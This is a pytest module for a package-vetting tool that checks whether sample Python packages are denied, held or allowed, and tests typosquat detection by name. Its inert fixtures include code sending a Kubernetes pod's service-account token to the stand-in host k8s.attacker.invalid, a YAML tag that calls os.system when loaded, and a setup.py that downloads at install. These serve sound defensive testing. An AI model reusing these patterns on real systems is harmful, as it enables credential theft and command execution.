"""Shapes of widely used projects that no rule was tuned on (ADR 0128's fresh corpus), each
beside the malicious shape next to it (ADR 0129).

Every sample is inert and made here (vetting only reads files): an in-cluster Kubernetes
client signing in with its pod's token, a Cython demo importing its sibling module, a YAML
library's changelog quoting a Python tag, a test suite's ``sitecustomize.py``, and a name
that is itself among the most downloaded projects."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.typosquat import established, typosquat_of
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import wheel
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

POD_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
IN_CLUSTER = (
    "import os, urllib.request\n"
    "def pod_image():\n"
    f"    with open('{POD_TOKEN}') as f:\n"
    "        token = f.read()\n"
    "    host = os.getenv('KUBERNETES_SERVICE_HOST')\n"
    "    port = os.getenv('KUBERNETES_PORT_443_TCP_PORT')\n"
    "    url = 'https://{{}}:{{}}/api/v1/namespaces/default/pods/{{}}'.format(host, port, "
    "os.getenv('HOSTNAME'))\n"
    "    request = urllib.request.Request({url}, headers={{'{header}': f'Bearer {{token}}'}}"
    "{body})\n"
    "    return urllib.request.urlopen(request, timeout=3).read()\n"
)


def in_cluster(url: str = "url", header: str = "Authorization", body: str = "") -> str:
    return IN_CLUSTER.format(url=url, header=header, body=body)


SETUP = "from setuptools import setup\nsetup(name='evpkg', packages=['evpkg'])\n"
DEMO = "import lcmath\n\ndef ncr(n, r):\n    return lcmath.exp(n - r)\n"
LCMATH = "def exp(x):\n    return x\n"
# A root module whose import runs a command (held alone), and a developer's script outside
# the package importing a name one letter from the standard library's ``pydoc``.
ROOT_RUNS = "import subprocess\nsubprocess.check_call(['tool', '--flag'])\n"
EPYDOC = "import epydoc\n"
# ruamel.yaml's changelog and README, quoting the tag its safe loader no longer runs.
QUOTED_TAG = "You can still load any tag, like `!!python/name:posix.system`, **safely**\n"
# django's test suite starts coverage in every process it runs.
COVERAGE_START = (
    "try:\n    import coverage\nexcept ImportError:\n    pass\n"
    "else:\n    coverage.process_startup()\n"
)
ROOTED_SETUP = "from setuptools import setup\nsetup(name='evpkg', package_dir={'': 'tests'})\n"
# nodeenv: setup.py takes the version from the tool's module, whose functions download
# Node.js and unpack it when the installed tool is run.
TOOL = (
    "import subprocess, urllib.request\n"
    "VERSION = '1.0'\n"
    "def fetch(url, dest):\n"
    "    data = urllib.request.urlopen(url).read()\n"
    "    open(dest, 'wb').write(data)\n"
    "def npm(*args):\n"
    "    return subprocess.Popen(['npm', *args])\n"
)
VERSION_SETUP = (
    "from setuptools import setup\nfrom evtool import VERSION\n"
    "setup(name='evpkg', version=VERSION, py_modules=['evtool'])\n"
)
APPLIED_TAG = "- !!python/object/apply:os.system ['id']\n"

DENIED: dict[str, dict[str, str]] = {
    # The pod's token in an Authorization header, to a host written in the code.
    "pod-token-signed-in-elsewhere": init(in_cluster(url="'https://k8s.attacker.invalid/x'")),
    # To the cluster's address, but in the body: a header is how a client signs in.
    "pod-token-in-a-body-to-the-cluster": init(in_cluster(body=", data=token.encode()")),
    # In a header of no authentication name.
    "pod-token-in-another-header": init(in_cluster(header="X-Data")),
    # The same client run on import: the environment sent early is a beacon.
    "pod-token-signed-in-on-import": init(in_cluster() + "pod_image()\n"),
    # A look-alike import in the package's own module, beside a command run: pretending
    # and acting.
    "lookalike-import-in-the-package-and-a-command": {
        "setup.py": SETUP,
        "evpkg/__init__.py": EPYDOC,
        "runtests.py": ROOT_RUNS,
    },
}
HELD: dict[str, dict[str, str]] = {
    # setup.py calls the module's function, or takes a name that is no literal from it, or
    # imports the module whole: its functions are taken to run at install, as before.
    "setup-calls-the-helpers-download": {
        "setup.py": VERSION_SETUP.replace("import VERSION", "import VERSION, fetch")
        + "fetch('https://example.invalid/node.tgz', 'node.tgz')\n",
        "evtool.py": TOOL,
    },
    "setup-takes-a-computed-name": {
        "setup.py": VERSION_SETUP,
        "evtool.py": TOOL.replace("VERSION = '1.0'", "VERSION = fetch"),
    },
    "setup-imports-the-helper-whole": {
        "setup.py": VERSION_SETUP + "import evtool\n",
        "evtool.py": TOOL,
    },
    # A start-up module where install puts it at the site's root: the sdist's own folder,
    # a src/ layout, or a side folder that setup.py makes the root of its modules.
    "sitecustomize-at-the-root": {"setup.py": SETUP, "sitecustomize.py": COVERAGE_START},
    "sitecustomize-in-src": {"setup.py": SETUP, "src/sitecustomize.py": COVERAGE_START},
    "sitecustomize-in-tests-made-the-root": {
        "setup.py": ROOTED_SETUP,
        "tests/sitecustomize.py": COVERAGE_START,
    },
    # The same text inside the package, where a module may load it, and a YAML file that
    # runs a command when loaded unsafely.
    "tag-quoted-in-a-packaged-readme": {"evpkg/__init__.py": "", "evpkg/README.md": QUOTED_TAG},
    "tag-applied-in-a-packaged-yaml": {"evpkg/__init__.py": "", "evpkg/data.yaml": APPLIED_TAG},
    # A Cython module importing a look-alike the archive does not ship.
    "cython-import-of-an-unshipped-lookalike": {
        "setup.py": SETUP,
        "evpkg/__init__.py": "",
        "Demos/freeze/combinatorics.pyx": DEMO,
    },
    # Cython's sdist: a look-alike import in a developer's script under tools/ weighs less
    # and is no pretending beside a root module's held command (ADR 0129; denied before).
    "script-lookalike-import-beside-a-held-command": {
        "setup.py": SETUP,
        "evpkg/__init__.py": "",
        "runtests.py": ROOT_RUNS,
        "tools/doc/epydoc_run.py": EPYDOC,
    },
}
ALLOWED: dict[str, dict[str, str]] = {
    # nodeenv's sdist: only the version literal is taken at install (ADR 0129; held before).
    "setup-takes-a-version-literal-from-a-tool": {"setup.py": VERSION_SETUP, "evtool.py": TOOL},
    # django's sdist: its test suite's sitecustomize.py, which nothing installs (ADR 0129).
    "sitecustomize-of-the-test-suite": {
        "setup.py": SETUP,
        "evpkg/__init__.py": "",
        "tests/sitecustomize.py": COVERAGE_START,
    },
    # ruamel.yaml's sdist: its README and changelog at the root are not installed and no
    # loader reads them (ADR 0129; held before).
    "tag-quoted-in-an-sdists-readme-and-changes": {
        "setup.py": SETUP,
        "evpkg/__init__.py": "",
        "README.md": QUOTED_TAG,
        "CHANGES": QUOTED_TAG,
    },
    # Cython's demo importing its sibling module built from ``lcmath.pyx`` (ADR 0129).
    "cython-import-of-a-shipped-pyx-module": {
        "setup.py": SETUP,
        "evpkg/__init__.py": "",
        "Demos/freeze/combinatorics.pyx": DEMO,
        "Demos/freeze/lcmath.pyx": LCMATH,
    },
    # wandb's image look-up: the pod's token sent, when called, to the API server the
    # kubelet names in the environment (ADR 0129; denied as exfiltration before).
    "pod-token-signed-in-to-its-cluster": init(in_cluster()),
    "pod-token-signed-in-to-the-cluster-name": init(
        in_cluster(url="'https://kubernetes.default.svc/api/v1/namespaces'")
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_fresh_popular_shapes(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(
    ("name", "imitated"),
    [
        # Among the most downloaded projects: their own projects (ADR 0129; held before).
        ("cattrs", None),
        ("pycryptodomex", None),
        ("authlib", None),
        # One edit from a protected name and nowhere near the top of the downloads.
        ("atrrs", "attrs"),
        ("pycryptodomx", "pycryptodome"),
        ("cattrs-x", None),  # a real suffix, as before
    ],
)
def test_an_established_name_is_no_lookalike(name: str, imitated: str | None) -> None:
    assert typosquat_of(name) == imitated


def test_the_established_list_is_the_top_of_the_downloads() -> None:
    names = established()
    assert len(names) == 5000  # ADR 0133: the top 5,000 (usort, rank 3,029)
    assert {"boto3", "requests", "cattrs", "pycryptodomex"} <= names
    assert "atrrs" not in names


@pytest.mark.parametrize(("name", "expected"), [("cattrs", Outcome.ALLOW), ("atrrs", Outcome.HOLD)])
def test_a_wheel_named_as_an_established_project(name: str, expected: Outcome) -> None:
    data = wheel(name, "1.0", {f"{name}/__init__.py": "VERSION = '1.0'\n"})
    assert vet(f"{name}-1.0-py3-none-any.whl", data).verdict is expected


def test_a_tag_quoted_in_a_wheels_metadata_is_documentation() -> None:
    """ruamel.yaml's wheel: the long description in METADATA is its README (ADR 0129)."""
    data = wheel("evpkg", "1.0", {"evpkg/__init__.py": ""}, requires="\n" + QUOTED_TAG)
    assert vet("evpkg-1.0-py3-none-any.whl", data).verdict is Outcome.ALLOW
